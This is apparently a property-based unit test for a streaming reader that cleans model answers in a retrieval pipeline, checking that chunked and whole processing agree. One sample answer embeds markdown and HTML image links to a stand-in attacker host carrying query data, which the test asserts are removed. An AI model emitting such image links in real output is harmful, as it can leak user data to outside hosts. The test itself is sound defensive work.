"""A model's text as it comes."""

from __future__ import annotations

from hypothesis import given
from hypothesis import strategies as st
from tests.unit.rag.answering.conftest import make_hit

from holdfast.rag.answering.reading import AnswerReader

HITS = [
    make_hit("Ice melts at 0 degrees, see https://ice.test/melting."),
    make_hit("Glass melts much later.", name="g"),
]


@given(
    st.data(),
    st.sampled_from(
        [
            "I don't know.",
            " I do not know [1]",
            "Ice [1] melts [7].",
            "[7] [8]",
            "",
            "I don't know [9]",
            "Ice melts [1]: ![it](https://evil.test/?q=ice) at https://ice.test/melting[1], <img src=//evil.test>.",
            "![9][ice](https://ice.test/melting)",
            "Glass melts much later [1], later [2].",
        ]
    ),
)
def test_it_does_not_matter_how_an_answer_is_cut(data: st.DataObject, text: str) -> None:
    """However an answer comes in pieces, what is given out adds up to the same text with the same meaning."""
    cuts = sorted(data.draw(st.lists(st.integers(0, len(text)), max_size=6)))
    reader, whole = AnswerReader(HITS), AnswerReader(HITS)
    given_out = [reader.push(text[start:end]) for start, end in zip([0, *cuts], [*cuts, len(text)], strict=True)]
    given_out.append(reader.finish())
    whole.push(text)
    whole.finish()
    assert "".join(given_out) == reader.text == whole.text
    assert (reader.unknown, reader.marks.cited) == (whole.unknown, whole.marks.cited)
    assert (reader.marks.removed, reader.links.removed) == (whole.marks.removed, whole.links.removed)
    assert "evil.test" not in reader.text
    assert "![" not in reader.text
    assert not (reader.unknown and reader.text)
